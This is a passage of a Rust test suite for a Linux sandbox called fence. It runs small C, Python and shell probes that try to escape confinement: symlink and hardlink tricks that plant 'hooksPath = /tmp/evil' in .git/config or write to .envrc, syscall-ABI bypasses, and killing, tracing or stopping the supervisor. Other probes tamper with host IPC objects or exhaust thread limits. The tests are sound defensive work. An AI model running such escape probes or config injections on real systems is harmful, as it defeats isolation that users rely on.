    while (!stop) {{ ((volatile struct sockaddr_un *)&u.sa)->sun_family = AF_INET; spin(); ((volatile struct sockaddr_un *)&u.sa)->sun_family = AF_UNIX; spin(); }}
    return 0;
}}
int main(void) {{
    pthread_t t;
    int made = 0, eacces = 0, other = 0;
    u.sa.sun_family = AF_UNIX;
    strcpy(u.sa.sun_path, "{target}");
    pthread_create(&t, 0, flip, 0);
    for (int i = 0; i < 10000; i++) {{
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        if (bind(s, (struct sockaddr *)&u.sa, sizeof u.sa) == 0) {{ made++; unlink("{target}"); }}
        else if (errno == EACCES) eacces++; else other++;
        close(s);
    }}
    stop = 1;
    pthread_join(t, 0);
    printf("%d %d %d\n", made, eacces, other);
    return 0;
}}
"#,
        target = target.display()
    );
    let bin = w.compile_c("famswap", &src);
    let out = w
        .fence(&["--quiet-blocks".as_ref(), "--".as_ref(), bin.as_os_str()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        std::fs::symlink_metadata(&target).is_err(),
        "a socket file was made at {}: {}",
        target.display(),
        stdout(&out)
    );
    let counts: Vec<u32> = stdout(&out)
        .split_whitespace()
        .filter_map(|n| n.parse().ok())
        .collect();
    // Both families reached the check (a pathname is refused with EACCES, an inet address
    // on a unix socket fails otherwise), or the race was not exercised.
    assert!(
        counts.len() == 3 && counts[0] == 0 && counts[1] > 0 && counts[2] > 0,
        "made, EACCES, other: {counts:?}"
    );
}

/// The session TMPDIR is a tmpfs of the sandbox's own (with a mount view): a symlink made
/// there exists only in the sandbox's view, and a write through it is judged where it
/// lands. One to a missing protected path is refused; one to an ordinary file of the
/// worktree works.
fn a_symlink_in_the_session_tmpdir_is_followed_as_the_sandbox_sees_it(w: &World) {
    let wt = w.worktree.display().to_string();
    let out = w
        .fence(&[
            "--".as_ref(),
            "sh".as_ref(),
            "-c".as_ref(),
            format!(
                r#"ln -s {wt}/.envrc "$TMPDIR/e"; echo evil > "$TMPDIR/e"
ln -s {wt} "$TMPDIR/w"; echo '{{}}' > "$TMPDIR/w/.mcp.json"; mkdir "$TMPDIR/w/.vscode"
ln -s {wt}/plain "$TMPDIR/p"; echo fine > "$TMPDIR/p"; exit 0"#
            )
            .as_ref(),
        ])
        .output()
        .unwrap();
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(0), "{err}");
    for name in [".envrc", ".mcp.json", ".vscode"] {
        assert!(
            std::fs::symlink_metadata(w.worktree.join(name)).is_err(),
            "{name} was made through a symlink in TMPDIR: {err}"
        );
    }
    assert!(err.contains("protected path"), "{err}");
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("plain"))
            .ok()
            .as_deref(),
        Some("fine\n"),
        "{err}"
    );
}

/// A hardlink is another name for the same file: linking a protected file is refused, and
/// the file stays unchanged (without a mount view nothing else would stop the write).
fn a_hardlink_to_a_protected_file_is_refused(w: &World) {
    git_init(w);
    let config_path = w.worktree.join(".git/config");
    let config = std::fs::read_to_string(&config_path).unwrap();
    w.write(
        "s.sh",
        "ln .git/config cfg; echo '[core] hooksPath = /tmp/evil' >> cfg; ln -s .git/config sym && ln -L sym cfg2; echo x >> cfg2\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert_unchanged(&config_path, &config);
    assert!(stderr(&out).contains("protected path"), "{}", stderr(&out));
}

fn int80_and_x32_calls_kill_the_process(w: &World) {
    let test = "int80_and_x32_calls_kill_the_process";
    if !cc_ready(test) {
        return;
    }
    // i386 getpid through int 0x80, and x32 getpid (39 | 0x40000000): the process must be
    // killed by SIGSYS before it can write its marker.
    let src = r#"#include <stdio.h>
#include <string.h>
int main(int argc, char **argv) {
    long r;
    if (strcmp(argv[1], "int80") == 0) {
        __asm__ volatile("int $0x80" : "=a"(r) : "a"(20L) : "memory");
    } else {
        __asm__ volatile("syscall" : "=a"(r) : "a"(39L | 0x40000000L) : "rcx", "r11", "memory");
    }
    FILE *f = fopen(argv[2], "w");
    if (f) { fprintf(f, "%ld\n", r); fclose(f); }
    return 0;
}
"#;
    let bin = w.compile_c("abi", src);
    for mode in ["int80", "x32"] {
        let marker = w.worktree.join(format!("{mode}.out"));
        let out = w.run(&[bin.to_str().unwrap(), mode, marker.to_str().unwrap()]);
        assert_eq!(
            out.status.code(),
            Some(128 + libc::SIGSYS),
            "{mode}: {}",
            stderr(&out)
        );
        assert!(
            !marker.exists(),
            "{mode}: the process went on after the call"
        );
    }
}

/// A program held only by a descriptor (a memfd, as runc and some runtimes re-execute
/// themselves) runs through its `/proc/self/fd/N` link, whose path names nothing.
fn an_in_memory_program_runs_through_its_proc_fd_link(w: &World) {
    if !python_ready("an_in_memory_program_runs_through_its_proc_fd_link") {
        return;
    }
    let out = w.python(
        r#"import os
fd = os.memfd_create("prog", 0)
os.write(fd, open("/bin/true", "rb").read())
for label, path in (("/proc/self/fd/N", f"/proc/self/fd/{fd}"), ("/proc/PID/fd/N", f"/proc/{os.getpid()}/fd/{fd}")):
    pid = os.fork()
    if pid == 0:
        try:
            os.execv(path, ["true"])
        except OSError as e:
            print("exec", path, "failed:", e.errno)
        os._exit(99)
    _, st = os.waitpid(pid, 0)
    print(label, os.waitstatus_to_exitcode(st))
"#,
    );
    assert_eq!(
        stdout(&out),
        "/proc/self/fd/N 0\n/proc/PID/fd/N 0\n",
        "{}",
        stderr(&out)
    );
}

fn first_exec_refused_by_policy_exits_126_and_does_nothing(w: &World) {
    let remote = w.outside.join("remote.git");
    let out = std::process::Command::new("git")
        .args(["init", "-q", "--bare"])
        .arg(&remote)
        .output()
        .unwrap();
    assert!(out.status.success());
    git_init(w);
    chown_tree(w, &remote);
    let out = w.run(&["git", "push", remote.to_str().unwrap(), "HEAD:main"]);
    assert_eq!(out.status.code(), Some(126), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_dir(remote.join("refs/heads"))
            .unwrap()
            .count(),
        0
    );
}

fn udp_and_ipv6_to_the_host_loopback_get_nothing_through(w: &World) {
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let tcp6 = std::net::TcpListener::bind("[::1]:0").ok();
    let tcp6_port = tcp6
        .as_ref()
        .map(|l| l.local_addr().unwrap().port())
        .unwrap_or(9);
    if let Some(l) = &tcp6 {
        l.set_nonblocking(true).unwrap();
    }
    w.python(&format!(
        "import socket\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.sendto(b'x', ('127.0.0.1', {udp_port}))\nexcept OSError:\n    pass\ntry:\n    socket.create_connection(('::1', {tcp6_port}), timeout=2).send(b'x')\nexcept OSError:\n    pass\n"
    ));
    let mut buf = [0u8; 8];
    assert!(
        udp.recv_from(&mut buf).is_err(),
        "a datagram reached the host's loopback"
    );
    if let Some(l) = tcp6 {
        assert!(
            l.accept().is_err(),
            "the host's ::1 listener got a connection"
        );
    }
}

fn fence_inside_fence_refuses_to_start(w: &World) {
    let marker = w.worktree.join("ran");
    let out = w.run(&[
        support::fence_binary().to_str().unwrap(),
        "run",
        "--",
        "/usr/bin/touch",
        marker.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("cannot run inside another seccomp-notify sandbox"),
        "{}",
        stderr(&out)
    );
    assert!(!marker.exists());
    // SPEC §3: EBUSY refuses even when degraded running is allowed, and --allow-dns (whose
    // datagram sockets pass the static filter only because their creation is notified)
    // never runs without the listener.
    for extra in [
        &["--allow-degraded"][..],
        &["--allow-degraded", "--allow-dns"][..],
    ] {
        let mut args = vec![support::fence_binary().to_str().unwrap(), "run"];
        args.extend_from_slice(extra);
        args.extend(["--", "/usr/bin/touch", marker.to_str().unwrap()]);
        let out = w.run(&args);
        assert_eq!(out.status.code(), Some(125), "{extra:?}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("cannot run inside another seccomp-notify sandbox"),
            "{extra:?}: {}",
            stderr(&out)
        );
        assert!(!marker.exists(), "{extra:?}");
    }
}

/// Whether tmux is missing, said as the reason `test` is skipped.
fn tmux_missing(test: &str) -> bool {
    let missing = std::process::Command::new("tmux")
        .arg("-V")
        .output()
        .is_err();
    if missing {
        support::skip(test, "tmux is missing");
    }
    missing
}

/// `tmux -L socket ARGS` as the world's user: a server of the test's own.
fn tmux_on(w: &World, socket: &str, args: &[&str]) -> std::process::Output {
    w.command_as_runner("tmux")
        .arg("-L")
        .arg(socket)
        .args(args)
        .output()
        .unwrap()
}

/// Waits for a condition rather than a fixed time (under an emulated CPU, vm-tests, a
/// shell takes seconds to start), for a minute at most.
fn wait_up_to_a_minute(what: &dyn Fn() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while !what() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A sandboxed program hands the terminal's foreground to the user's shell's process group
/// (`tcsetpgrp`, possible where the sandbox shares the user's session: no pid namespace),
/// then changes the window size: the terminal driver would signal the shell (SIGWINCH),
/// and keys the sandbox remapped would send it SIGINT or SIGQUIT. The shell's trap, outside
/// fence, must never run; the group is refused with a reason.
fn the_terminal_is_never_handed_to_a_group_outside_the_sandbox(w: &World) {
    let test = "the_terminal_is_never_handed_to_a_group_outside_the_sandbox";
    if tmux_missing(test) {
        return;
    }
    let grab = w.compile_c(
        "grab",
        r#"#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>
int main(int argc, char **argv) {
    pid_t shell = atoi(argv[1]);
    signal(SIGTTOU, SIG_IGN);
    int r = ioctl(0, TIOCSPGRP, &shell);
    FILE *f = fopen("grab-result", "w");
    fprintf(f, "%d %s\n", r, r ? strerror(errno) : "taken");
    fclose(f);
    struct winsize ws;
    ioctl(0, TIOCGWINSZ, &ws);
    for (int i = 0; i < 3; i++) {
        ws.ws_col ^= 1;
        ioctl(0, TIOCSWINSZ, &ws);
        usleep(100000);
    }
    return 0;
}
"#,
    );
    let socket = format!(
        "fence-fg-{}",
        w.worktree.file_name().unwrap().to_string_lossy()
    );
    let tmux = |args: &[&str]| tmux_on(w, &socket, args);
    let started = tmux(&[
        "-f",
        "/dev/null",
        "new-session",
        "-d",
        "-x",
        "100",
        "-y",
        "30",
        "/bin/bash --norc -i",
    ]);
    assert!(started.status.success(), "{}", stderr(&started));
    let wait_for = wait_up_to_a_minute;
    wait_for(&|| !stdout(&tmux(&["capture-pane", "-p"])).trim().is_empty());
    let seen = w.worktree.join("winch-seen");
    tmux(&[
        "send-keys",
        &format!(
            "trap 'echo WINCH >> {}' WINCH; {} run -- {} $$ 2> fence-err; echo ended > finished",
            seen.display(),
            support::fence_binary().display(),
            grab.display()
        ),
        "Enter",
    ]);
    wait_for(&|| w.worktree.join("finished").exists());
    std::thread::sleep(Duration::from_millis(300));
    tmux(&["kill-server"]);
    let err = std::fs::read_to_string(w.worktree.join("fence-err")).unwrap_or_default();
    assert!(
        w.worktree.join("finished").exists(),
        "the session did not end: {err}"
    );
    assert!(
        !seen.exists(),
        "the user's shell was signalled by the terminal: {err}"
    );
    let result = std::fs::read_to_string(w.worktree.join("grab-result")).unwrap_or_default();
    assert!(!result.contains("taken"), "{result} {err}");
    if w.who == support::Who::UnprivilegedWithoutNamespaces {
        assert!(
            err.contains("handing the terminal to a process group outside the sandbox"),
            "{err}"
        );
    }
}

fn an_interactive_shell_in_tmux_behaves_as_without_fence(w: &World) {
    let test = "an_interactive_shell_in_tmux_behaves_as_without_fence";
    if tmux_missing(test) {
        return;
    }
    let socket = format!(
        "fence-it-{}",
        w.worktree.file_name().unwrap().to_string_lossy()
    );
    let tmux = |args: &[&str]| tmux_on(w, &socket, args);
    let shell = format!(
        "{} run -- /bin/bash --norc -i",
        support::fence_binary().display()
    );
    let started = tmux(&["new-session", "-d", "-x", "100", "-y", "30", &shell]);
    assert!(started.status.success(), "{}", stderr(&started));
    let pause = || std::thread::sleep(std::time::Duration::from_millis(600));
    let wait_for = wait_up_to_a_minute;
    wait_for(&|| !stdout(&tmux(&["capture-pane", "-p"])).trim().is_empty());
    tmux(&["send-keys", "echo $$ > shell-pid; sleep 30", "Enter"]);
    // Ctrl-C goes once the sleep runs: a child of the sandboxed shell named sleep.
    wait_for(&|| {
        let Ok(pid) = std::fs::read_to_string(w.worktree.join("shell-pid")) else {
            return false;
        };
        descendants_of_shell_named(pid.trim(), "sleep")
    });
    tmux(&["send-keys", "C-c"]);
    pause();
    tmux(&[
        "send-keys",
        "echo status=$? > after-ctrl-c; stty size > size",
        "Enter",
    ]);
    wait_for(&|| w.worktree.join("size").exists());
    let screen = stdout(&tmux(&["capture-pane", "-p"]));
    let fences = fence_processes_in(&w.worktree);
    assert!(!fences.is_empty(), "no fence process found for the session");
    // On exit the shell writes its history to $HOME, outside the worktree: a question
    // (or a refusal where nobody can be asked). Then the terminal goes away.
    tmux(&["send-keys", "exit", "Enter"]);
    pause();
    tmux(&["kill-server"]);
    // A hung-up terminal closes the questions: fence ends with its shell instead of
    // waiting out the ask timeout (120 s) with a question nobody can see.
    wait_for(&|| {
        fences
            .iter()
            .all(|p| !Path::new(&format!("/proc/{p}")).exists())
    });
    let left: Vec<_> = fences
        .iter()
        .filter(|p| Path::new(&format!("/proc/{p}")).exists())
        .collect();
    assert!(
        left.is_empty(),
        "fence still runs after its terminal hung up: {left:?}"
    );
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("after-ctrl-c")).unwrap_or_default(),
        "status=130\n",
        "Ctrl-C did not reach the command: {screen}"
    );
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("size")).unwrap_or_default(),
        "30 100\n",
        "{screen}"
    );
}

/// The pids /proc lists (the host's pid namespace).
fn process_ids() -> impl Iterator<Item = String> {
    std::fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| e.file_name().into_string().ok())
        .filter(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()))
}

/// The `fence run` processes whose working directory is `worktree`.
fn fence_processes_in(worktree: &Path) -> Vec<String> {
    let fence = support::fence_binary();
    process_ids()
        .filter(|p| {
            std::fs::read_link(format!("/proc/{p}/cwd")).is_ok_and(|c| c == worktree)
                && std::fs::read(format!("/proc/{p}/cmdline")).is_ok_and(|c| {
                    c.split(|b| *b == 0)
                        .next()
                        .is_some_and(|a| Path::new(OsStr::from_bytes(a)) == fence)
                })
        })
        .collect()
}

/// Whether a process named `name` runs whose parent is the shell with pid `shell` as
/// the sandbox sees it (the pid namespace may renumber it): compared through the
/// parent's own `$$`, found in /proc/PID/status's NSpid line.
fn descendants_of_shell_named(shell: &str, name: &str) -> bool {
    let parent_of = |pid: &str| -> Option<(String, String)> {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
        let field = |key: &str| {
            status
                .lines()
                .find_map(|l| l.strip_prefix(key))
                .map(|v| v.trim().to_string())
        };
        Some((field("Name:")?, field("PPid:")?))
    };
    let inner_pid = |pid: &str| -> Option<String> {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
        let line = status.lines().find_map(|l| l.strip_prefix("NSpid:"))?;
        line.split_whitespace().last().map(str::to_string)
    };
    process_ids().any(|pid| {
        parent_of(&pid).is_some_and(|(comm, ppid)| {
            comm == name && inner_pid(&ppid).is_some_and(|inner| inner == shell)
        })
    })
}

fn the_sandbox_cannot_signal_or_trace_fence(w: &World) {
    w.write(
        "s.sh",
        "while [ ! -s fence.pid ]; do sleep 0.02; done\nP=$(cat fence.pid)\nkill -KILL $P; kill -STOP $P\n/usr/bin/python3 -c \"import ctypes,sys; print(ctypes.CDLL(None).ptrace(16, int(sys.argv[1]), 0, 0))\" $P\necho survived > done\n",
    );
    let mut child = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "s.sh".as_ref()])
        .spawn()
        .unwrap();
    w.write("fence.pid", &format!("{}\n", child.id()));
    let status = child.wait().unwrap();
    assert_eq!(
        status.code(),
        Some(0),
        "fence did not finish normally: {status:?}"
    );
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("done")).unwrap(),
        "survived\n"
    );
}

/// The signals fence sends its init (the terminal's Ctrl-Z as a request to stop the whole
/// sandbox, SIGCONT, forwarded ones) are acted on only when fence sent them. A process of
/// the sandbox reaches the init where nothing scopes its signals: below Landlock ABI 6, in a
/// pid namespace, whose init takes every signal it blocks. Its stop request, sent with
/// `kill` or forged with `rt_sigqueueinfo` (sender pid 0), used to stop fence and the
/// whole session until someone continued it. The session now runs to its end.
fn the_sandbox_cannot_ask_its_init_to_stop_the_session(w: &World) {
    w.compile_c(
        "ask_stop",
        r#"#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
    int sig = SIGRTMAX - 1;
    pid_t init[2] = { 1, getppid() };
    for (int i = 0; i < 2; i++) {
        printf("kill %d: %d\n", init[i], kill(init[i], sig));
        siginfo_t info;
        memset(&info, 0, sizeof info);
        info.si_signo = sig;
        info.si_code = SI_QUEUE;
        info.si_pid = 0;
        info.si_uid = 0;
        printf("queue %d: %ld\n", init[i], syscall(SYS_rt_sigqueueinfo, init[i], sig, &info));
        printf("cont %d: %d\n", init[i], kill(init[i], SIGCONT));
    }
    fflush(stdout);
    usleep(300000);
    FILE *f = fopen("after", "w");
    fputs("ran on\n", f);
    fclose(f);
    return 0;
}
"#,
    );
    let mut command = w.fence(&[
        "--approver".as_ref(),
        "deny".as_ref(),
        "--".as_ref(),
        "./ask_stop".as_ref(),
    ]);
    // Below ABI 6 the pid namespace alone keeps the sandbox's signals in (without one fence
    // refuses such a kernel), which is where the init is reachable.
    if w.who != support::Who::UnprivilegedWithoutNamespaces {
        command.env("FENCE_LANDLOCK_ABI_MAX", "5");
    }
    let out = output_within(command, Duration::from_secs(20));
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("after")).unwrap(),
        "ran on\n"
    );
}

/// Runs `command` (its output piped) to its end; one that has not ended within `limit` is
/// killed (a stopped fence too) and the test fails with what it printed.
fn output_within(mut command: std::process::Command, limit: Duration) -> std::process::Output {
    let mut child = command
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > limit {
            let _ = child.kill();
            let out = child.wait_with_output().unwrap();
            panic!(
                "the session did not end within {limit:?} (stopped?): {}{}",
                stdout(&out),
                stderr(&out)
            );
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    child.wait_with_output().unwrap()
}

/// The number of tasks (threads included) of user `uid` on the machine, which its
/// processes' RLIMIT_NPROC is checked against.
fn tasks_of_user(uid: u32) -> usize {
    process_ids()
        .filter(|pid| std::fs::metadata(format!("/proc/{pid}")).is_ok_and(|m| m.uid() == uid))
        .map(|pid| std::fs::read_dir(format!("/proc/{pid}/task")).map_or(0, |d| d.count()))
        .sum()
}

/// A network call is performed on a thread of fence's own (one that waits after a call, or
/// a new one). A sandbox that holds its user's process count at fence's RLIMIT_NPROC
/// (threads waiting) and makes connects that block on a busy listener, more at once than
/// fence has threads waiting, leaves fence no thread for the rest: those calls are refused
/// with a reason, and fence goes on judging the sandbox's calls (it used to panic on its
/// notification thread, after which every notified call of the sandbox waited forever).
/// Only an unprivileged user has the limit (root is exempt).
fn a_sandbox_at_fences_thread_limit_gets_refusals_not_a_dead_supervisor(w: &World) {
    let test = "a_sandbox_at_fences_thread_limit_gets_refusals_not_a_dead_supervisor";
    let Some((uid, _)) = support::test_user().filter(|_| w.who != support::Who::Root) else {
        support::skip(test, "root is exempt from RLIMIT_NPROC");
        return;
    };
    // The test runs alone (support::ALONE names it): the limit below is counted from the
    // user's tasks, which another test's sandbox of the same user would grow or shrink.
    let victim = w.write_outside("victim.txt", "original");
    w.compile_c(
        "hold",
        &format!(
            r#"#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
static void *wait_forever(void *arg) {{ (void)arg; for (;;) pause(); return 0; }}
static struct sockaddr_un a = {{ .sun_family = AF_UNIX }};
static int refused;
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
/* A connect to a listener whose backlog is full waits (here up to 2 s, the socket's send
   timeout) on the fence thread that performs it. */
static void *connect_once(void *arg) {{
    (void)arg;
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct timeval t = {{ .tv_sec = 2 }};
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof t);
    if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) {{
        pthread_mutex_lock(&lock);
        refused++;
        pthread_mutex_unlock(&lock);
    }}
    return 0;
}}
int main(void) {{
    strcpy(a.sun_path, "l.sock");
    int l = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(l, (struct sockaddr *)&a, sizeof a) || listen(l, 0)) {{ perror("listener"); return 2; }}
    pthread_attr_t at;
    pthread_attr_init(&at);
    pthread_attr_setstacksize(&at, 65536);
    int made = 0;
    /* More than the limit leaves fence, by more than the threads another test of this
       user may end meanwhile (the limit is counted when fence starts). */
    for (; made < 1500; made++) {{
        pthread_t t;
        if (pthread_create(&t, &at, wait_forever, 0)) break;
    }}
    /* One connect fills the backlog; the others wait at once, each on a fence thread. */
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    connect(s, (struct sockaddr *)&a, sizeof a);
    pthread_t c[5];
    for (int i = 0; i < 5; i++) pthread_create(&c[i], 0, connect_once, 0);
    for (int i = 0; i < 5; i++) pthread_join(c[i], 0);
    int fd = open("{victim}", O_WRONLY | O_TRUNC);
    printf("threads %d refused %d open %d %s\n", made, refused, fd, strerror(errno));
    return 0;
}}
"#,
            victim = victim.display()
        ),
    );
    // Room for fence to start and for some of the sandbox's threads, not for 1,500 more.
    let limit = (tasks_of_user(uid) + 150) as libc::rlim_t;
    let mut command = w.fence(&[OsStr::new("--"), OsStr::new("./hold")]);
    // SAFETY: setrlimit is async-signal-safe; the closure touches nothing else.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut command, move || {
            let mut cur = libc::rlimit {
                rlim_cur: 0,
                rlim_max: 0,
            };
            libc::getrlimit(libc::RLIMIT_NPROC, &mut cur);
            let new = libc::rlimit {
                rlim_cur: limit.min(cur.rlim_max),
                rlim_max: cur.rlim_max,
            };
            if libc::setrlimit(libc::RLIMIT_NPROC, &new) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = output_within(command, Duration::from_secs(60));
    let (text, err) = (stdout(&out), stderr(&out));
    assert_eq!(out.status.code(), Some(0), "{text}{err}");
    assert!(!err.contains("panicked"), "{err}");
    assert!(
        err.contains("(rule fence.supervisor-limit)"),
        "no call met fence's limit: {text}{err}"
    );
    // The loop still judged the write after the refusals, with its reason.
    assert!(text.contains("open -1 Permission denied"), "{text}{err}");
    assert!(
        err.contains(&format!(
            "fence: blocked write outside the worktree: {} (rule fence.write-outside)",
            victim.display()
        )),
        "{err}"
    );
    assert_unchanged(&victim, "original");
}

fn a_head_made_a_fifo_or_a_link_to_dev_zero_neither_stalls_nor_swells_fence(w: &World) {
    use std::os::unix::fs::OpenOptionsExt;
    use std::os::unix::process::CommandExt;
    git_init(w);
    // HEAD replaced as git replaces it, by a rename: by a FIFO nobody writes to, then by a
    // symlink to /dev/zero, each followed by a git command (judged with the branch).
    w.write(
        "s.sh",
        "mkfifo .git/HEAD.new && mv -f .git/HEAD.new .git/HEAD && git --version\n\
         rm -f .git/HEAD && ln -s /dev/zero .git/HEAD && git --version\n\
         echo done > done\n",
    );
    let mut cmd = w.fence(&["--".as_ref(), "/bin/sh".as_ref(), "s.sh".as_ref()]);
    // SAFETY: only setrlimit between fork and exec. A bound on fence's address space: a
    // fence that reads /dev/zero stops there instead of taking the machine's memory.
    unsafe {
        cmd.pre_exec(|| {
            let bound = libc::rlimit {
                rlim_cur: 2 << 30,
                rlim_max: 2 << 30,
            };
            if libc::setrlimit(libc::RLIMIT_AS, &bound) == 0 {
                Ok(())
            } else {
                Err(std::io::Error::last_os_error())
            }
        });
    }
    // Reaped with wait4 below, which also gives fence's peak memory.
    #[allow(clippy::zombie_processes)]
    let child = cmd
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id() as libc::pid_t;
    let mut status = 0;
    // SAFETY: rusage is plain data.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut stalled = false;
    loop {
        // SAFETY: wait4 on our own child, into locals.
        let r = unsafe { libc::wait4(pid, &mut status, libc::WNOHANG, &mut usage) };
        if r == pid {
            break;
        }
        if Instant::now() > deadline {
            // A fence waiting on the FIFO (at each exec that names git) is let go by its
            // other end, so the test ends.
            stalled = true;
            if let Ok(mut fifo) = std::fs::OpenOptions::new()
                .write(true)
                .custom_flags(libc::O_NONBLOCK)
                .open(w.worktree.join(".git/HEAD"))
            {
                use std::io::Write;
                let _ = fifo.write_all(b"ref: refs/heads/work\n");
            }
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        !stalled,
        "fence waited on a FIFO the sandbox put at .git/HEAD"
    );
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("done"))
            .ok()
            .as_deref(),
        Some("done\n"),
        "the session did not run to its end (wait status {status})"
    );
    assert!(
        usage.ru_maxrss < 256 * 1024,
        "fence grew to {} KiB reading .git/HEAD",
        usage.ru_maxrss
    );
}

fn system_v_ipc_and_message_queues_of_the_host_are_unreachable(w: &World) {
    // Objects of the host's IPC namespace, owned by whoever runs fence: a shared memory
    // segment with a known content, a semaphore set, a POSIX message queue. They outlive
    // the helper that makes them.
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    let key = (std::process::id() << 8) ^ nanos ^ (w.who as u32);
    let key = (key & 0x3fff_ffff) as i32 + 1;
    let mq = format!("/fence-it-{key}");
    let make = w
        .command_as_runner(PYTHON)
        .args([
            "-c",
            r#"import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
key = int(sys.argv[1])
shm = libc.shmget(key, 4096, 0o1000 | 0o600)
ctypes.memmove(libc.shmat(shm, None, 0), b"HOST-DATA\0", 10)
sem = libc.semget(key, 1, 0o1000 | 0o600)
mq = libc.mq_open(sys.argv[2].encode(), os.O_CREAT | os.O_RDWR, 0o600, None)
print(shm, sem, mq)
"#,
            &key.to_string(),
            &mq,
        ])
        .output()
        .unwrap();
    let ids: Vec<i32> = stdout(&make)
        .split_whitespace()
        .filter_map(|n| n.parse().ok())
        .collect();
    assert!(
        ids.len() == 3 && ids.iter().all(|&i| i >= 0),
        "making the host's objects: {} {}",
        stdout(&make),
        stderr(&make)
    );
    let (shm, sem) = (ids[0], ids[1]);
    let out = w.python(&format!(
        r#"import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for shm in (libc.shmget({key}, 0, 0), {shm}):
    a = libc.shmat(shm, None, 0)
    if a is not None and a != 2**64 - 1:
        ctypes.memmove(a, b"SANDBOXED\0", 10)
        print("wrote into the host's segment")
print("semctl", libc.semctl({sem}, 0, 0), ctypes.get_errno())
print("mq_unlink", libc.mq_unlink({mq:?}.encode()), ctypes.get_errno())
"#
    ));
    // From outside: the segment's content, the semaphore and the queue are all still there.
    // SAFETY: shmat of an id this test made; the mapping is read and detached here.
    let content = unsafe {
        let a = libc::shmat(shm, std::ptr::null(), libc::SHM_RDONLY);
        assert_ne!(a as isize, -1, "the segment is gone");
        let text = std::ffi::CStr::from_ptr(a as *const libc::c_char)
            .to_string_lossy()
            .into_owned();
        libc::shmdt(a);
        text
    };
    // SAFETY: IPC_STAT with a null buffer is not used; GETVAL (12) reads one value.
    let sem_alive = unsafe { libc::semctl(sem, 0, 12) } >= 0;
    let c_mq = std::ffi::CString::new(mq.clone()).unwrap();
    // SAFETY: mq_open with a NUL-terminated name; the descriptor is closed at once.
    let mqd = unsafe { libc::mq_open(c_mq.as_ptr(), libc::O_RDONLY) };
    // SAFETY: cleanup of the objects this test made.
    unsafe {
        if mqd >= 0 {
            libc::mq_close(mqd);
        }
        libc::mq_unlink(c_mq.as_ptr());
        libc::shmctl(shm, libc::IPC_RMID, std::ptr::null_mut());
        libc::semctl(sem, 0, libc::IPC_RMID);
    }
    let report = format!("{} {}", stdout(&out), stderr(&out));
    assert_eq!(
        content, "HOST-DATA",
        "the host's segment was written: {report}"
    );
    assert!(sem_alive, "the host's semaphore was removed: {report}");
    assert!(mqd >= 0, "the host's message queue was removed: {report}");
}

/// Whether `w`'s sandbox gets a private `/dev/shm` (skipping `test` loudly if not).
fn private_shm_ready(w: &World, test: &str) -> bool {
    if w.who == support::Who::UnprivilegedWithoutNamespaces {
        // /dev/shm is on the device list (SPEC §2); without a mount namespace it can only
        // be the host's.
        support::skip(
            test,
            "without a mount namespace /dev/shm is the host's (docs/run.md)",
        );
        return false;
    }
    if !Path::new("/dev/shm").is_dir() {
        support::skip(test, "no /dev/shm on this host");
        return false;
    }
    true
}

fn the_hosts_posix_shared_memory_is_out_of_reach(w: &World) {
    if !private_shm_ready(w, "the_hosts_posix_shared_memory_is_out_of_reach") {
        return;
    }
    let name = format!("fence-it-{}-{}", std::process::id(), w.who as u32);
    let host = Path::new("/dev/shm").join(&name);
    std::fs::write(&host, "HOST-OBJECT").unwrap();
